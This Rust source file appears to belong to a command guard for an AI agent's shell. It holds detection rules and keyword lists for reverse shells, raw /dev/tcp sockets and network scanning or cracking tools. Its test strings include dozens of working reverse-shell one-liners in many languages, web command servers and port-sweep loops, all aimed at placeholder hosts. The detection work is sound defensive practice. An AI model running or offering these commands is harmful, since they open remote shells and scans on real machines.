//! Shells for somebody elsewhere, and the tools of who looks for a way in.

use super::{attackers, runs_for_visitors};
use crate::domain::{EffectKind, Severity, Target, Verdict};
use crate::rules::builtin::{flagged, lists, predicate, run};
use crate::rules::matcher::{
    Code, Command, Found, Instead, Operand, RULE, Rule, Scene, Trigger, When, has_flag, input_of, runs,
    runs_code, runs_shell,
};
use crate::rules::{Invocation, Stdin};

pub(in crate::rules::builtin) const RULES: &[Rule] = &[
    Rule {
        id: "network.reverse-shell",
        severity: Severity::Critical,
        reason: "gives somebody on the network a shell on this machine",
        instead: Some(Instead::Advice("let the person open the connection that is needed")),
        when: &[
            When::Command(flagged(lists::NETCATS, &[&["-e", "-c", "--exec", "--sh-exec", "--lua-exec"]])),
            predicate("program_on_a_socket", Trigger::programs(&["socat"]), served),
            When::Code(Code {
                programs: &[],
                all: &[
                    &[
                        "socket",
                        "open_connection(",
                        "Deno.connect(",
                        "stream_socket_client",
                        "TCPSocket",
                        "fsockopen",
                        "net.connect",
                        "net.Socket",
                        "require('net')",
                        "require(\"net\")",
                        "node:net",
                        "net.Dial",
                        "IO::Socket",
                        "TCPServer",
                        "gen_tcp",
                        "using Sockets",
                        "pack_sockaddr_in",
                        "new Socket(",
                        "make-network-process",
                        "Bun.listen(",
                        "Bun.connect(",
                        "socket.create_connection",
                    ],
                    &[
                        ":os.cmd(",
                        "os:cmd(",
                        "[\"sh\"].execute(",
                        "['sh'].execute(",
                        "[\"bash\"].execute(",
                        "\"sh\".execute(",
                        "\"bash\".execute(",
                        "shell-command-to-string",
                        "Bun.spawn",
                        "print $c `$_`",
                        "`$_`",
                        "dup2",
                        "pty.spawn",
                        "/bin/sh",
                        "/bin/bash",
                        "exec(\"sh",
                        "child_process",
                        "subprocess",
                        "open(STDIN",
                        "IO.popen",
                        "`#{",
                        "eval $_",
                        "Deno.run(",
                        "Deno.Command(",
                        "os.execute",
                        "io.popen",
                        "os.popen",
                        "proc_open",
                        "shell_exec",
                        "fdopen",
                        "system$",
                        "system $",
                        "exec sh",
                        "exec /bin",
                        "exec \"/bin",
                        "exec \"sh",
                        "exec\"sh",
                        "exec'sh",
                        "exec 'sh",
                        "open STDIN",
                        "spawn(\"sh",
                        "spawn(\"/bin",
                        "popen(\"sh",
                        "`sh ",
                        "`sh`",
                        "System.cmd",
                        "system(readLines",
                        "ProcessBuilder",
                        "getRuntime",
                        "Process.run",
                        "exec $",
                        "[eval ",
                        "exec(socket",
                        "exec(s.recv",
                        ").recv(",
                    ],
                ],
            }),
            When::Code(Code {
                programs: lists::SCRIPTED_FILTERS,
                all: &[&["/inet/tcp", "/inet/udp", "/inet4/"]],
            }),
            predicate("shell_on_a_socket", Trigger::SHELL, shell_on_socket),
            When::Command(run(&[
                "gs-netcat",
                "gsocket",
                "pwncat-cs",
                "pwncat",
                "rustcat",
                "dnscat2",
                "dnscat",
                "ligolo-agent",
                "ligolo-proxy",
                "iodine",
                "iodined",
                "ptunnel",
                "icmpsh",
                "sliver-client",
                "meterpreter",
                "merlinAgent",
                "villain",
            ])),
            When::Command(flagged(&["xterm"], &[&["-display"]])),
            When::Command(Command { operand: Operand::Is(&["connect"]), ..run(&["rcat"]) }),
            When::Command(Command {
                operand: Operand::Is(&["pwncat", "pty_shell"]),
                ..flagged(&["python", "python3"], &[&["-m"]])
            }),
            When::Command(flagged(&["agent"], &[&["-ignore-cert", "-connect"]])),
            predicate("shell_between_a_fifo_and_a_connection", Trigger::SHELL, shell_through_fifo),
            predicate("source_of_a_reverse_shell_written_and_run", Trigger::programs(BUILDERS), built_shell),
            predicate("network_commands_run_by_code", Trigger::INTERPRETER, commanded),
            predicate("visitors_commands_run_by_code", Trigger::INTERPRETER, serves_commands),
            predicate("shell_of_a_debugger_on_a_socket", Trigger::programs(&["gdb", "lldb"]), debugger_shell),
        ],
        fires: &[
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "nc -e /bin/sh 10.0.0.1 4444",
            "socat TCP:10.0.0.1:4444 EXEC:/bin/sh",
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"x\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
            "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
            "ncat --exec /bin/bash -l 4444",
            "php -r '$s=fsockopen(\"x\",1);exec(\"sh <&3\");'",
            "ruby -rsocket -e'c=TCPSocket.new(\"10.0.0.1\",\"4444\");while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end'",
            "node -e 'require(\"net\").connect(4444,\"10.0.0.1\",function(){require(\"child_process\").spawn(\"sh\").stdin.pipe(this)})'",
            "lua -e \"require('socket');t=socket.tcp();t:connect('10.0.0.1','4444');os.execute('sh -i <&3 >&3');\"",
            "awk 'BEGIN{s=\"/inet/tcp/0/10.0.0.1/4444\";while(1){s|&getline c;while((c|&getline)>0)print $0|&s}}'",
            "mkfifo /tmp/s; sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4444 > /tmp/s",
            "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"10.0.0.1:4444\");STDIN->fdopen($c,r);system$_ while<>;'",
            "tclsh <<< 'set s [socket 10.0.0.1 4444]; exec sh <@$s >@$s'",
            "sh -i 2>&1 | telnet 10.0.0.1 4444 > /tmp/f",
            "rm /tmp/l;mknod /tmp/l p;/bin/sh 0</tmp/l | nc 10.0.0.1 4444 1>/tmp/l",
            "ruby -rsocket -e'spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"10.0.0.1\",4444))'",
            "php -r '$s=fsockopen(\"10.0.0.1\",4444);`sh <&3 >&3 2>&3`;'",
            "julia -e 'using Sockets; s=connect(\"10.0.0.1\",4444); run(pipeline(`sh`,stdin=s,stdout=s))'",
            "gs-netcat -s x -l -i",
            "xterm -display 10.0.0.1:1",
            "python3 -c \"import urllib.request as u,os\nwhile 1: os.system(u.urlopen('http://10.0.0.1/c').read().decode())\"",
            "python3 -c \"import http.server,subprocess\nclass H(http.server.BaseHTTPRequestHandler):\n def do_GET(self): self.wfile.write(subprocess.getoutput(self.path[1:]).encode())\nhttp.server.HTTPServer(('0.0.0.0',8000),H).serve_forever()\"",
            "python3 -c \"import flask,os;a=flask.Flask('x');a.route('/<c>')(lambda c:os.popen(c).read());a.run('0.0.0.0')\"",
            "node -e 'require(\"http\").createServer((q,r)=>require(\"child_process\").exec(decodeURIComponent(q.url.slice(1)),(e,o)=>r.end(o))).listen(8000)'",
            "ruby -rwebrick -e 's=WEBrick::HTTPServer.new(Port:8000);s.mount_proc(\"/\"){|q,r| r.body=`#{q.query[\"c\"]}`};s.start'",
            "gdb -batch -ex 'python import socket,subprocess;s=socket.socket();s.connect((\"10.0.0.1\",4444));subprocess.call([\"sh\"],stdin=s,stdout=s)'",
            "perl -MSocket -e 'socket(S,2,1,6);connect(S,sockaddr_in(443,inet_aton(\"10.0.0.1\")));open STDIN,\">&S\";exec\"sh -i\"'",
            "perl -MIO::Socket -e '$s=IO::Socket::INET->new(Listen=>1,LocalPort=>4444);while($c=$s->accept){while(<$c>){print $c `$_`}}'",
            "groovy -e 'p=[\"sh\"].execute();s=new Socket(\"10.0.0.1\",4444);p.consumeProcessOutput(s.out,s.out)'",
        ],
        silent: &[
            "nc -z localhost 5432",
            "python3 -c 'import socket; print(socket.gethostname())'",
            "socat TCP-LISTEN:8080,fork TCP:localhost:80",
            "echo 'bash -i >& /dev/tcp/10.0.0.1/4444'",
            "nc -zv db 5432",
            "openssl s_client -connect x.example:443 < /dev/null",
            "awk '/inet/ {print $2}' f",
            "python3 -c \"import subprocess,sys; subprocess.Popen([sys.executable,'-m','http.server','8000'])\"",
            "node -e 'require(\"http\").createServer((q,r)=>r.end(q.url)).listen(8000)'",
            "gdb -batch -ex bt ./app core",
        ],
        ..RULE
    },
    Rule {
        id: "network.shell-socket",
        reason: "opens a network connection through the shell itself, past every tool that would show it",
        instead: Some(Instead::Advice("look at the ports of this machine only")),
        when: &[
            predicate(
                "redirection_to_a_socket",
                Trigger::PATHS.or(Trigger::REDIRECTED).or(Trigger::TOOL),
                redirected_to_socket,
            ),
            When::Command(run(&["ztcp"])),
            When::Command(Command { operand: Operand::Contains(&["zsh/net"]), ..run(&["zmodload"]) }),
        ],
        fires: &[
            "zmodload zsh/net/tcp && ztcp 10.0.0.1 4444",
            "echo x > /dev/tcp/1.2.3.4/80",
            "cat < /dev/tcp/1.2.3.4/80",
            "exec 3<>/dev/tcp/x.example/80",
            "exec 3<>\"/dev/tcp/$h/$p\"; cat x >&3",
            "until (echo $x > /dev/tcp/$1/$2) 2>/dev/null; do sleep 1; done",
            "(exec 3<>\"/dev/tcp/$h/$p\"; sh /dev/fd/3)",
            "source /dev/tcp/x.example/80",
        ],
        silent: &[
            "(echo > /dev/tcp/localhost/5432) 2>/dev/null",
            "until (exec 3<>\"/dev/tcp/$host/$port\") 2>/dev/null; do sleep 1; done",
            "until (echo > /dev/tcp/$1/$2) 2>/dev/null; do sleep 1; done; echo up >&2",
            "echo /dev/tcp/1.2.3.4/80",
            "nc -z localhost 5432",
            "echo x > /dev/null",
        ],
        ..RULE
    },
    Rule {
        id: "network.attack-tools",
        verdict: Verdict::Modify,
        reason: "scans or attacks other machines",
        instead: Some(Instead::Advice("look at the ports of this machine only")),
        when: &[
            predicate(
                "attack_tool",
                Trigger::programs(attackers::ATTACKERS)
                    .or(Trigger::programs(attackers::BREAKERS))
                    .or(Trigger::INTERPRETER)
                    .or(Trigger::SHELL),
                attackers::attacks,
            ),
            When::Code(Code {
                programs: &[],
                all: &[
                    &["connect_ex(", ".connect((", "create_connection("],
                    &["65536", "65535", "range(1, 1025", "range(1,1025", "range(1, 1024", "range(1,1024"],
                    &["range("],
                ],
            }),
            When::Code(Code {
                programs: &[],
                all: &[
                    &["extractall(", "setpassword(", "crypt.crypt(", "hashlib."],
                    &["itertools.product(", "rockyou"],
                    &["pwd=", "password=", "pwd =", "hexdigest", "crypt("],
                ],
            }),
            predicate("network_swept_by_a_loop", Trigger::programs(SWEEPERS), swept),
        ],
        fires: &[
            "nmap -sS 10.0.0.0/8",
            "john hashes.txt",
            "sudo tcpdump -i eth0",
            "tcpdump -r x -z ./x",
            "sqlmap -u 'http://localhost:5000/item?id=1' --batch",
            "nuclei -u https://x.example",
            "gobuster dir -u http://localhost:3000@x.example -w words.txt",
            "gobuster dns -d x.example -w words.txt",
            "python3 sqlmap.py -u 'http://localhost:5000/item?id=1' --batch",
            "for i in $(seq 1 254); do ping -c1 -W1 192.168.1.$i >/dev/null && echo $i; done",
            "python3 - <<'E'\nimport socket\nfor p in range(1, 65536):\n    if socket.socket().connect_ex(('10.0.0.5', p)) == 0: print(p)\nE",
            "perl nikto.pl -h 10.0.0.1",
            "ffuf -u http://localhost:3000/FUZZ -w words.txt -x http://10.0.0.1:8080",
        ],
        silent: &[
            "ping -c1 localhost",
            "for i in 1 2 3; do ping -c1 10.0.0.$i; done",
            "for p in $(seq 3000 3010); do nc -z localhost $p && echo $p; done",
            "man nmap",
            "which nmap",
            "apt-cache show nmap",
            "nmap -p 8080 localhost",
            "nikto -h http://localhost:8080 -maxtime 60s",
            "gobuster dir -u http://127.0.0.1:3000 -w words.txt",
            "ffuf -u http://localhost:3000/FUZZ -w words.txt -H 'X-Debug: 1'",
            "wfuzz -c -w words.txt http://localhost:5000/FUZZ",
            "gobuster version",
            "python3 sqlmap.py --version",
            "python3 scripts/responder.py",
            "sudo tcpdump -i lo port 8080",
            "tcpdump -nn -r capture.pcap",
            "tcpdump --version",
        ],
        ..RULE
    },
];

const BUILDERS: &[&str] = &[
    "go",
    "java",
    "javac",
    "rustc",
    "gcc",
    "cc",
    "tcc",
    "groovy",
    "jshell",
    "jrunscript",
    "gdb",
    "scala",
    "kotlinc",
];

/// `sh < fifo | nc`: what comes over the connection is run.
fn shell_through_fifo<'a>(scene: &Scene<'a>) -> Found<'a> {
    let all = scene.invocations();
    let found = all.iter().find(|inv| {
        let reads = !inv.reads.is_empty() || matches!(inv.stdin, Stdin::Pipe | Stdin::File(_));
        runs_shell(inv)
            && inv.operands.is_empty()
            && reads
            && all.iter().any(|other| {
                let connects = runs(other, lists::NETCATS) || runs(other, &["telnet", "socat"]);
                connects && other.pipeline == inv.pipeline && other.stage > inv.stage
            })
    });
    Found::from(found.map(|inv| inv.text.as_str()))
}

/// A socket and a shell in one text that is compiled or handed over to a program.
fn built_shell<'a>(scene: &Scene<'a>) -> Found<'a> {
    const SOCKETS: &[&str] = &[
        "net.Dial",
        "java.net.Socket",
        "new Socket(",
        "TcpStream::connect",
        "socket(AF_INET",
        "socket.socket(",
    ];
    const SHELLS: &[&str] = &[
        "exec.Command",
        "ProcessBuilder",
        "getRuntime",
        "Command::new",
        "execve",
        "execl",
        "dup2",
        "pty.spawn",
    ];
    let hostile = |text: &str| {
        SOCKETS.iter().any(|word| text.contains(word))
            && SHELLS.iter().any(|word| text.contains(word))
            && ["sh\"", "bash\"", "/bin/", "cmd.exe"].iter().any(|word| text.contains(word))
    };
    let found = scene.first(BUILDERS, |inv| {
        inv.args.iter().any(|arg| hostile(&arg.text()))
            || input_of(inv, scene).iter().any(|text| hostile(text))
            || scene.view.survey.written.iter().any(|(_, text)| hostile(&text.text()))
    });
    Found::from(found.map(|inv| inv.text.as_str()))
}

/// Code that asks a host for commands and runs what it answers.
fn commanded<'a>(scene: &Scene<'a>) -> Found<'a> {
    const ASKS: &[&str] = &["urlopen(", "requests.get(", ".recv(", "file_get_contents(", "net::http.get"];
    const RUNS: &[&str] = &[
        "os.system(",
        "os.popen(",
        "subprocess.run(",
        "subprocess.call(",
        "check_output(",
        "popen(",
        "shell_exec(",
        "system(",
    ];
    let found = scene.invocations().iter().filter(|inv| runs_code(inv)).find(|inv| {
        inv.args.iter().filter(|arg| arg.text().contains('(')).any(|arg| {
            let bare: String =
                arg.text().chars().filter(|c| !c.is_whitespace()).collect::<String>().to_ascii_lowercase();
            RUNS.iter().any(|run| {
                bare.split(run).skip(1).any(|tail| {
                    let near: String = tail.chars().take(24).collect();
                    ASKS.iter().any(|ask| near.contains(ask)) || near.contains("u.urlopen")
                })
            })
        })
    });
    Found::from(found.map(|inv| inv.text.as_str()))
}

/// A server whose visitors say what is run.
fn serves_commands<'a>(scene: &Scene<'a>) -> Found<'a> {
    scene.code_where(|codes, _| codes.iter().any(|text| runs_for_visitors(text)))
}

/// A debugger that is told to join a shell with a connection.
fn debugger_shell<'a>(scene: &Scene<'a>) -> Found<'a> {
    let found = scene.first(&["gdb", "lldb"], |inv| {
        inv.args.iter().any(|arg| {
            let text = arg.text();
            text.contains("socket")
                && text.contains("connect")
                && ["dup2", "subprocess", "pty.spawn", "os.exec", "os.system"]
                    .iter()
                    .any(|w| text.contains(w))
        })
    });
    Found::from(found.map(|inv| inv.text.as_str()))
}

/// `socat TCP-LISTEN:1,fork EXEC:/bin/sh`: whatever program it is, unless that one only gives back what it is given.
fn served<'a>(scene: &Scene<'a>) -> Found<'a> {
    const HARMLESS: &[&str] = &["cat", "date", "true", "false", "rev", "wc", "hostname", "uptime"];
    let found = scene.first(&["socat"], |inv| {
        inv.operands.iter().any(|arg| {
            let text = arg.text().to_ascii_lowercase();
            ["exec:", "system:"].iter().any(|address| {
                text.split_once(address).is_some_and(|(_, program)| {
                    let program = program.split(',').next().unwrap_or_default().trim_matches(['"', '\'']);
                    let name = program.strip_prefix("/usr/bin/").or(program.strip_prefix("/bin/"));
                    !HARMLESS.contains(&name.unwrap_or(program))
                })
            })
        })
    });
    Found::from(found.map(|inv| inv.text.as_str()))
}

fn shell_on_socket<'a>(scene: &Scene<'a>) -> Found<'a> {
    let socket =
        |target: &Target| target.text().starts_with("/dev/tcp/") || target.text().starts_with("/dev/udp/");
    let all = scene.invocations();
    let found = all.iter().find(|inv| {
        let redirected = inv.writes.iter().any(|(target, _)| socket(target)) || inv.reads.iter().any(socket);
        // `sh -i | nc host`: what is typed there is run here, through a pipe or a fifo.
        let piped = has_flag(inv, "-i")
            && all.iter().any(|other| {
                let connects = runs(other, lists::NETCATS)
                    || runs(other, lists::CONNECTIONS)
                    || (other.program == "openssl"
                        && other.args.iter().any(|arg| arg.known() == Some("s_client")));
                connects && other.pipeline == inv.pipeline && other.stage > inv.stage
            });
        (redirected || piped) && runs_shell(inv)
    });
    Found::from(found.map(|inv| inv.text.as_str()))
}

fn redirected_to_socket<'a>(scene: &Scene<'a>) -> Found<'a> {
    let socket = |text: &str| {
        let rest = text.strip_prefix("/dev/tcp/").or_else(|| text.strip_prefix("/dev/udp/"));
        // To see whether a service of this machine is up is how scripts wait for it.
        rest.is_some_and(|rest| !["localhost/", "127.0.0.1/"].iter().any(|own| rest.starts_with(own)))
    };
    let connects = |inv: &&Invocation| {
        inv.writes.iter().any(|(target, _)| socket(target.text()))
            || inv.reads.iter().any(|target| socket(target.text()))
            || runs(inv, &["source", "."]) && inv.operands.first().is_some_and(|arg| socket(&arg.text()))
    };
    let mut connected = scene.invocations().iter().filter(connects).peekable();
    if connected.peek().is_some() {
        let line = scene.command_line();
        return Found::from(connected.find(|inv| !only_waits(inv, line)).map(|inv| inv.text.as_str()));
    }
    // A redirection without a command opens it and closes it again; only what is written is told to anybody.
    let tells = |kind: EffectKind| !matches!(kind, EffectKind::SystemCommand | EffectKind::FileRead);
    let effects = scene.effects().find(|(effect, _)| tells(effect.kind) && socket(effect.target.text()));
    Found::from(effects.map(|(effect, _)| effect.target.text()))
}

/// `until (exec 3<>"/dev/tcp/$HOST/$PORT") 2>/dev/null`: to see whether a service that the script is told of is up. Nothing is said to
/// it, and nothing that comes from it is read.
fn only_waits(inv: &Invocation, line: &str) -> bool {
    // Behind the bracket the connection is gone.
    let alone = || {
        let (front, rest) = line.split_once(inv.text.as_str())?;
        (!rest.contains("/dev/tcp/") && front.trim_end().ends_with('(') && rest.trim_start().starts_with(')'))
            .then_some(())
    };
    let quiet = match inv.program.as_str() {
        "exec" => alone().is_some(),
        // What the other side says is shown, and nothing is said to it.
        "cat" => {
            let silent = inv.writes.iter().all(|(target, _)| target.text() == "/dev/null");
            let limited = inv.wrappers.iter().any(|name| name == "timeout");
            inv.reads.iter().all(|target| target.text() == "/dev/null")
                || silent && limited && inv.feeds.is_none()
        }
        name => matches!(name, "echo" | ":" | "true"),
    };
    quiet && inv.args.is_empty()
}

const SWEEPERS: &[&str] = &["ping", "ping6", "nc", "ncat", "arping", "curl"];

/// A loop that asks every machine of a network, or every port of one, whether it is there.
fn swept<'a>(scene: &Scene<'a>) -> Found<'a> {
    const ALL: &[&str] = &[
        "seq 1 254",
        "seq 254",
        "seq 1 255",
        "seq 255",
        "{1..254}",
        "{1..255}",
        "{1..65535}",
        "seq 1 65535",
        "seq 65535",
    ];
    let line = scene.command_line();
    if !ALL.iter().any(|all| line.contains(all)) {
        return Found::No;
    }
    let asks = scene.running(|inv| runs(inv, SWEEPERS)).find(|inv| {
        inv.args.iter().any(|arg| {
            let text = arg.text();
            text.starts_with(|c: char| c.is_ascii_digit()) && text.contains('.') || text.contains("://")
        })
    });
    Found::from(asks.map(|inv| inv.text.as_str()))
}
